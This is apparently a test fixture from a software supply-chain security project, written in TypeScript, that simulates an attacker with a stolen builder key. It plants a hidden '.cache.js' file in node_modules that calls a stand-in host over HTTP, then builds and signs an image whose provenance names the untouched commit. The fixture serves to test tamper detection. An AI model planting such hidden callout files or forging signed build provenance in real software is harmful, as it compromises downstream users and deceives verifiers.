/** What somebody with the builder's key does: the same commit, one file more, and a provenance that says nothing of it. */
import { execFile } from 'node:child_process';
import { cp, mkdir, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import process from 'node:process';
import { promisify } from 'node:util';
import { createLocalBuildSigner } from '../../adapters/builder/local-build-signer.ts';
import { publishBuild } from '../../adapters/builder/publish-build.ts';
import { readLayout } from '../../adapters/builder/read-layout.ts';
import { createBundleSigner } from '../../adapters/sigstore/bundle-signer.ts';
import { openKey } from '../../adapters/sigstore/local-key-ring.ts';
import type { Registry } from '../../domain/artifact/registry.ts';
import { oldBuilder, type Stage } from './stage.ts';

const run = promisify(execFile);

/** The file nobody committed, as it is found in the image. */
export const plantedFile = 'app/node_modules/left/.cache.js';

/** Builds the greeter outside of any recipe, with a planted file, signs it as the old builder, pushes it as `tag`. */
export async function publishTampered(stage: Stage, registry: Registry, tag: string): Promise<void> {
  const { path, commit } = stage.sources.greeter;
  const folder = join(stage.home.dir, 'attacker');
  await mkdir(folder, { recursive: true });
  try {
    await cp(join(path, 'src'), join(folder, 'src'), { recursive: true });
    await writeFile(
      join(folder, 'src/node_modules/left/.cache.js'),
      "require('node:http').get('http://198.51.100.7/c');\n",
    );
    const committedAt = Date.parse('2026-01-05T10:00:00Z') / 1000;
    const tool = join(path, 'tools/oci-image.mjs');
    const layout = join(folder, 'out');
    await run(
      process.execPath,
      [
        tool,
        '--output',
        layout,
        '--layer',
        `${join(folder, 'src')}:/app`,
        '--entrypoint',
        'node',
        '--entrypoint',
        '/app/main.mjs',
        '--workdir',
        '/app',
        '--label',
        'org.opencontainers.image.vendor=example',
      ],
      { cwd: folder, env: { PATH: process.env.PATH, SOURCE_DATE_EPOCH: String(committedAt) } },
    );
    const { digest, mediaType } = await readLayout(layout, folder);
    const now = new Date().toISOString();
    await publishBuild({
      finished: {
        source: {
          repository: path,
          commit,
          signedBy: stage.developer.name,
          signatureKind: 'ssh',
          authorEmail: 'dana@example.com',
          committerEmail: 'dana@example.com',
          committedAt,
        },
        layout,
        workspace: folder,
        digest,
        mediaType,
        toolchain: { node: process.version },
        startedOn: now,
        finishedOn: now,
        logTail: '',
      },
      registry,
      repository: 'apps/greeter',
      tag,
      buildSigner: createLocalBuildSigner({
        signer: await openKey(stage.builder.keyFolder, oldBuilder.name, stage.builder.passphrase),
        bundleSigner: createBundleSigner(),
        builderId: oldBuilder.id,
        builderHost: oldBuilder.host,
        buildFolder: folder,
      }),
      invocationId: 'urn:uuid:00000000-0000-4000-8000-000000000000',
    });
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
}
